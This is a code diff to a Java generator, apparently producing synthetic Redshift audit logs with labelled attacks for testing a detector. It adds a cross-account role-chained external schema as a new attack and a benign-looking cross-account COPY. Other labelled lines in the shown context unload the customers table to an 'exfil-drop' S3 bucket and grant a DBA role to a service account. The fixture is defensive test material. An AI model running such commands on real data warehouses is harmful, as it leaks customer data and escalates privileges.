@@ -280,8 +280,15 @@ public final class BenignDay {
                                     + "/' iam_role 'arn:aws:iam::" + ACCOUNT
                                     + ":role/RedshiftLoad' format as parquet;";
                         case 1 ->
-                            "insert into " + table + "\n  select *\n  from staging." + table + "\n  where load_id = "
-                                    + random.nextInt(1_000_000) + ";";
+                            hour == 6 && table.equals(TABLES[0])
+                                    // the data lake of the DR account, reached through a role chain it trusts
+                                    ? "copy staging." + table + " from 's3://" + BUCKET + "/dr/" + table
+                                            + "/' iam_role 'arn:aws:iam::" + ACCOUNT
+                                            + ":role/RedshiftLoad,arn:aws:iam::"
+                                            + DR_ACCOUNT + ":role/LakeReader' format as parquet;"
+                                    : "insert into " + table + "\n  select *\n  from staging." + table
+                                            + "\n  where load_id = "
+                                            + random.nextInt(1_000_000) + ";";
                         default -> "truncate staging." + table + ";";
                     };
                 } else if (r < 50) {
@@ -592,6 +599,14 @@ public final class BenignDay {
                             "etl_svc_3",
                             "unload ('select * from customers') to 's3://exfil-drop-991/c_' iam_role"
                                     + " 'arn:aws:iam::" + ACCOUNT + ":role/RedshiftUnload';");
+                    attacks.add(new Attack("role chained to another account", f.path, f.nextLine(), "RSH-EXFIL-004"));
+                    records.activity(
+                            f,
+                            t + 75_000,
+                            "etl_svc_3",
+                            "create external schema drop from data catalog database 'hr' iam_role 'arn:aws:iam::"
+                                    + ACCOUNT + ":role/RedshiftLoad,arn:aws:iam::" + LogGenerator.FOREIGN_ACCOUNT
+                                    + ":role/catalog';");
                     attacks.add(new Attack("role escalation", f.path, f.nextLine(), "RSH-PRIV-005"));
                     records.activity(f, t + 90_000, "svc_backup", "grant role sys:dba to etl_svc_3;");
                     attacks.add(new Attack("default privileges to public", f.path, f.nextLine(), "RSH-PRIV-004"));
